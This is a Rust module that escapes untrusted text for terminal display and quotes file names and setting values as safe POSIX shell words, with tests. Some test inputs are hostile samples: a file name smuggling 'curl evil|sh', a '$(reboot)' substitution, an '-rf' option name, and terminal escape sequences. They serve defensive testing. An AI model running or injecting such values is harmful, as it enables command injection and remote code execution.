//! Makes foreign text safe to show. A terminal obeys some characters, and others change the reading order of the rest:
//! both are written out, as in `\u{1b}`.

use std::borrow::Cow;
use std::fmt::Write;
use std::path::Path;

/// Escapes text of any number of lines; line ends and tabs stay.
pub fn text(text: &str) -> Cow<'_, str> {
    shown(text, |c| is_obeyed(c) && c != '\n', |out, c| out.extend(c.escape_default()))
}

/// Escapes text into one line: line ends are written out too, as `\n`.
pub fn line(text: &str) -> Cow<'_, str> {
    shown(text, is_obeyed, |out, c| out.extend(c.escape_default()))
}

/// Returns the name of a file or folder in one line; the empty name becomes `.`.
pub fn path(path: &Path) -> String {
    let path = if path.as_os_str().is_empty() { Path::new(".") } else { path };
    line(&path.display().to_string()).into_owned()
}

/// Returns the name as one word of a shell command, and not as an option.
pub fn word(path: &Path) -> String {
    let path = self::path(path);
    quoted(&if path.starts_with('-') { format!("./{path}") } else { path })
}

/// Quotes a text as one word of a POSIX shell (XCU 2.2). Removes NUL, which no argument can contain.
pub fn quoted(text: &str) -> String {
    let text = text.replace('\0', "");
    shlex::try_quote(&text).expect("a text without NUL").into_owned()
}

/// Quotes the value of a setting: a list of plain words in double quotes, as people type it, and others as [`quoted`].
pub fn value(text: &str) -> String {
    let is_list = text.contains(' ') && text.chars().all(|c| c.is_ascii_alphanumeric() || " ._-".contains(c));
    if is_list { format!("\"{text}\"") } else { quoted(text) }
}

/// Escapes a JSON document: only its strings contain such characters, so they get JSON's escapes.
pub fn json(document: &str) -> Cow<'_, str> {
    let escape = |out: &mut String, c: char| {
        for unit in c.encode_utf16(&mut [0; 2]) {
            let _ = write!(out, "\\u{unit:04x}");
        }
    };
    shown(document, |c| is_obeyed(c) && c != '\n', escape)
}

fn shown(text: &str, is_wrong: impl Fn(char) -> bool, escape: impl Fn(&mut String, char)) -> Cow<'_, str> {
    if !text.contains(&is_wrong) {
        return text.into();
    }
    let mut out = String::with_capacity(text.len() + 16);
    for c in text.chars() {
        if is_wrong(c) { escape(&mut out, c) } else { out.push(c) }
    }
    out.into()
}

/// True for controls except the tab, and for characters that set the direction of writing, break lines or are invisible
/// (Unicode, UAX 9 and UAX 14; tags; blanks that are letters or signs: Hangul's fillers and Braille's).
fn is_obeyed(c: char) -> bool {
    let is_hidden = matches!(
        u32::from(c),
        0x061C | 0x115F..=0x1160 | 0x180E | 0x200B | 0x200E..=0x200F | 0x2028..=0x202E | 0x2060..=0x2069 | 0x2800 | 0x3164
            | 0xFEFF | 0xFFA0 | 0xE0000..=0xE007F
    );
    c != '\t' && (c.is_control() || is_hidden)
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;
    use std::process::Command;

    #[test]
    fn what_a_terminal_obeys_is_written_out() {
        assert_eq!(text("a\x1b]0;b\x07\n\tc\r"), "a\\u{1b}]0;b\\u{7}\n\tc\\r");
        assert_eq!(line("a\nb\u{9b}\u{7f}\u{202e}\u{2066}\u{2028}"), "a\\nb\\u{9b}\\u{7f}\\u{202e}\\u{2066}\\u{2028}");
        assert_eq!(line("\u{2800}\u{3164}\u{feff}"), "\\u{2800}\\u{3164}\\u{feff}");
        assert!(matches!(text("Größe 5 × 3 → 中文 👩‍🔬"), Cow::Borrowed(_)));
    }

    #[test]
    fn a_name_is_one_line_and_one_word() {
        assert_eq!(path(Path::new("a\nhint: b")), "a\\nhint: b");
        assert_eq!(word(Path::new("runs/2026-11-26_a.b")), "runs/2026-11-26_a.b");
        assert_eq!(word(Path::new("pf;curl evil|sh")), "'pf;curl evil|sh'");
        assert_eq!(word(Path::new("-rf")), "./-rf");
        assert_eq!(word(Path::new("")), ".");
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 64, ..ProptestConfig::default() })]

        /// The shell itself is the oracle.
        #[test]
        fn sh_gives_back_quoted_words_and_values(text in "[^\0]*", list in "[0-9a-z $*'-]*") {
            let script = format!("printf '%s %s %s' {} {} {}", quoted(&text), value(&text), value(&list));
            let output = Command::new("sh").arg("-c").arg(script).output().unwrap();
            prop_assert_eq!(String::from_utf8(output.stdout).unwrap(), format!("{text} {text} {list}"));
        }
    }

    #[test]
    fn a_list_of_numbers_is_a_value_in_double_quotes() {
        assert_eq!(
            ["1", "4096 131072 6291456", "$(reboot)"].map(value),
            ["1", "\"4096 131072 6291456\"", "'$(reboot)'"]
        );
    }

    #[test]
    fn json_stays_json() {
        let value = "\u{9b}\u{7f}\u{202e}\u{e0041}\x1b\n";
        let document = serde_json::to_string(value).unwrap();
        assert_eq!(json(&document), r#""\u009b\u007f\u202e\udb40\udc41\u001b\n""#);
        assert_eq!(serde_json::from_str::<String>(&json(&document)).unwrap(), value);
    }
}
